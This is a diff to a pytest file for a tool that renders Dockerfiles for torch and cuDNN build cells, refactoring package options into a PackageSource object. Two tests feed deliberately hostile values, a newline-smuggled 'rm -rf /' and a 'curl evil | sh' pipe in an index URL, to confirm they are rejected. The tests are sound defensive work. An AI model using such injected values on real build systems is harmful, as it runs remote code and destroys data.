@@ -8,9 +8,10 @@ from pathlib import Path
 import pytest
 
 from harness.backends.docker import dockerfile as images
+from harness.backends.packages import PackageSource
 from harness.errors import InputError
 from harness.plan.model import Cell, CudnnSource
-from tests.conftest import run_cli
+from tests.conftest import cli_in_process, run_cli
 
 CUDA = dict(torch="2.11.0+cu130", base_image="auto", python="3.12")
 
@@ -78,7 +79,9 @@ def test_build_only_inputs_never_reach_the_final_stage(tmp_path: Path):
     for kind, value in (("bundled", None), ("system", "9.14.0.64")):
         rendered = images.render(
             cell(kind, value),
-            images.BuildOptions(wheelhouse=tmp_path / "wheelhouse", ca_bundle=tmp_path / "ca.pem"),
+            images.BuildOptions(
+                PackageSource(wheelhouse=tmp_path / "wheelhouse"), ca_bundle=tmp_path / "ca.pem"
+            ),
         )
         final = final_stage(rendered.dockerfile)
         assert "harness-build" not in final and "ca-bundle" not in final and "PIP_CERT" not in final
@@ -110,7 +113,8 @@ def test_unsafe_values_cannot_reach_a_dockerfile():
         images.render(cell("bundled", base_image="ubuntu\nRUN rm -rf /"), images.BuildOptions())
     with pytest.raises(InputError, match="plain http"):
         images.render(
-            cell("bundled"), images.BuildOptions(index_url="https://x.org/simple' && curl evil | sh")
+            cell("bundled"),
+            images.BuildOptions(PackageSource(index_url="https://x.org/simple' && curl evil | sh")),
         )
 
 
@@ -142,7 +146,7 @@ axes:
   python: ["3.12"]
 baseline: {cudnn: bundled, torch: "2.11.0+cu130"}
 """)
-    done = run_cli("plan", "--matrix", str(path))
+    done = cli_in_process("plan", "--matrix", str(path))
     assert done.returncode == 2
     assert "a CPU build of torch loads no cuDNN" in done.stderr
     assert "system needs its full version" in done.stderr
@@ -150,7 +154,7 @@ baseline: {cudnn: bundled, torch: "2.11.0+cu130"}
 
 def test_an_index_token_stays_in_the_build_stage():
     url = "https://build-bot:s3cr3t-token@pypi.corp.example/simple"
-    text = images.render(cell("bundled"), images.BuildOptions(index_url=url)).dockerfile
+    text = images.render(cell("bundled"), images.BuildOptions(PackageSource(index_url=url))).dockerfile
     assert url in text.split("FROM python AS cell")[0]
     assert "s3cr3t-token" not in final_stage(text)
 
@@ -183,7 +187,7 @@ def plain(kind: str = "bundled", value: str | None = None, base: str = HOST_BASE
 def test_a_plain_version_installs_pypis_build_from_the_wheelhouse_offline(tmp_path: Path):
     (tmp_path / PYPI_TORCH).write_bytes(b"PK")
     for kind in ("bundled", "disabled"):
-        rendered = images.render(plain(kind), images.BuildOptions(wheelhouse=tmp_path))
+        rendered = images.render(plain(kind), images.BuildOptions(PackageSource(wheelhouse=tmp_path)))
         text = rendered.dockerfile
         assert f"FROM {HOST_BASE} AS python" in text
         assert '--no-index --find-links /tmp/harness-build/wheelhouse "torch==2.11.0"\n' in text
@@ -197,7 +201,7 @@ def test_a_plain_version_without_a_wheelhouse_comes_from_pypi_or_the_index_given
     assert '--index-url https://pypi.org/simple "torch==2.11.0"' in text
     assert "download.pytorch.org" not in text and "extra-index-url" not in text
     mirror = "https://pypi.corp.example/simple"
-    text = images.render(plain(), images.BuildOptions(index_url=mirror)).dockerfile
+    text = images.render(plain(), images.BuildOptions(PackageSource(index_url=mirror))).dockerfile
     assert f'--index-url {mirror} "torch==2.11.0"' in text and "pypi.org" not in text
 
 
@@ -249,7 +253,7 @@ def test_the_docker_rules_refuse_auto_and_a_cudnn_release_for_a_plain_version(wr
             "BASE", "auto"
         )
     )
-    done = run_cli("plan", "--matrix", str(path))
+    done = cli_in_process("plan", "--matrix", str(path))
     assert done.returncode == 2 and "Traceback" not in done.stderr
     lines = [line for line in done.stderr.splitlines() if line.startswith("error: ")]
     base = [line for line in lines if ": axes.base_image: " in line]
